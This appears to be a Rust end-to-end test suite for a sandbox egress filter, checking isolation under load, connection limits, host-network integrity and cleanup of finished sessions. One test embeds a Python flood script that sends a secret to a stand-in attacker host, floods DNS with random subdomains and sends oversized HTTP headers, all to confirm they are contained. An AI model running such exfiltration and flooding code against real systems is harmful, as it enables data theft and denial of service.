//! Sandboxes that ask for too much, and what is left when they are gone.

use super::{GOOD, Inside, RUNTIMES, World, becomes};
use k8e_e2e::internet::{ATTACKER, CDN};
use std::time::{Duration, Instant};

/// Runs Python in the background until the sandbox is gone.
fn in_background(inside: &Inside<'_>, script: &str) {
    inside.sh(&format!(
        "cat > /tmp/background.py <<'EOF'\n{}\n{script}\nEOF\nsetsid python3 /tmp/background.py > /tmp/said 2>&1 &\nsleep 1",
        super::PRELUDE
    ));
}

/// What is allowed works for somebody else, and does not take long.
fn assert_quick(inside: &Inside<'_>) {
    for _ in 0..3 {
        let begun = Instant::now();
        inside.works();
        let took = begun.elapsed();
        assert!(took < Duration::from_secs(10), "{took:?}");
    }
}

#[test]
fn who_floods_does_not_stop_others() {
    let world = World::start(&[]);
    for runtime in RUNTIMES {
        let flood = world.session(runtime, &["--allowed-hosts", "good.example,*.good.example"]);
        in_background(
            &flood,
            &format!(
                "import threading\n\
                 def often(what):\n    \
                 while True:\n        \
                 try: what()\n        \
                 except OSError: time.sleep(0.01)\n\
                 held = []\n\
                 def hold():\n    \
                 s = socket.socket(); s.connect(('{CDN}', 443)); held.append(s)\n\
                 def denied(): socket.create_connection(('{ATTACKER}', 443), 1).close()\n\
                 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
                 def ask(): u.sendto(question(os.urandom(4).hex() + '.good.example'), (GATEWAY, 53))\n\
                 def packets(): u.sendto(SECRET * 100, ('{ATTACKER}', 443))\n\
                 def headers(): s = socket.create_connection(('{CDN}', 80), 1); s.sendall(b'GET / HTTP/1.1\\r\\nX: ' + b'x' * 60000); held.append(s)\n\
                 for what in hold, denied, ask, packets, headers: threading.Thread(target=often, args=(what,)).start()"
            ),
        );
        let other = world.session(runtime, &["--allowed-hosts", GOOD]);
        assert_quick(&other);
        other.assert_not_reached(ATTACKER);
        flood.session.destroy();
        assert_quick(&other);
        other.session.destroy();
    }
}

#[test]
fn who_holds_all_it_may_gets_it_back() {
    let world = World::start(&["--egress-connections-max", "16"]);
    world.everywhere(GOOD, |inside| {
        // Silent ones are not kept for ever, and those that are closed are given back at once.
        inside.python(&format!(
            "held = []\n\
             for n in range(60):\n    \
             s = socket.socket(); s.settimeout(1)\n    \
             try: s.connect(('{CDN}', 443)); held.append(s)\n    \
             except OSError: pass\n\
             for s in held: s.close()"
        ));
        assert_quick(inside);
    });
}

#[test]
fn the_network_of_the_host_is_left_alone() {
    let world = World::start(&[]);
    let host = |program: &str, args: &[&str]| {
        let output = world.internet.on_host(program, args);
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let state = || {
        [
            host("ip", &["-brief", "link"]),
            host("ip", &["-brief", "address"]),
            host("ip", &["route", "show", "table", "all"]),
            host("ip", &["rule"]),
            host("nft", &["list", "ruleset"]),
            host(
                "sh",
                &[
                    "-c",
                    "cat /proc/sys/net/ipv4/ip_forward /proc/sys/net/ipv4/conf/*/route_localnet",
                ],
            ),
        ]
    };
    let before = state();
    let inside = RUNTIMES.map(|runtime| {
        let inside = world.session(runtime, &["--allowed-hosts", GOOD]);
        inside.works();
        inside
    });
    assert_eq!(state(), before);
    drop(inside);
}

#[test]
fn nothing_is_left_of_sessions_that_are_over() {
    const SESSIONS: usize = 12;
    let world = World::start(&[]);
    for runtime in RUNTIMES {
        let session = || {
            let inside = world.session(runtime, &["--allowed-hosts", GOOD]);
            inside.works();
            inside.sh("setsid curl -s http://good.example/drip >/dev/null 2>&1 &");
            inside.session.destroy();
        };
        session();
        let before = descriptors(world.server.pid());
        for _ in 0..SESSIONS {
            session();
        }
        let open = || {
            world
                .internet
                .log()
                .connections()
                .iter()
                .any(|one| one.open)
        };
        becomes("every connection is closed", || !open());
        // A socket would keep the namespace that it is in. Some may be open for something else.
        let some = before + SESSIONS / 2;
        becomes("descriptors are closed", || {
            descriptors(world.server.pid()) < some
        });
    }
}

/// How many the server and the processes of its launcher have open.
fn descriptors(pid: u32) -> usize {
    let children = |pid: u32| -> Vec<u32> {
        let text = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"));
        let text = text.unwrap_or_default();
        text.split_whitespace()
            .filter_map(|pid| pid.parse().ok())
            .collect()
    };
    let keepers = children(pid);
    let workers = keepers.iter().flat_map(|keeper| children(*keeper));
    let all: Vec<u32> = std::iter::once(pid)
        .chain(keepers.iter().copied())
        .chain(workers)
        .collect();
    let count = |pid: u32| std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, Iterator::count);
    all.into_iter().map(count).sum()
}
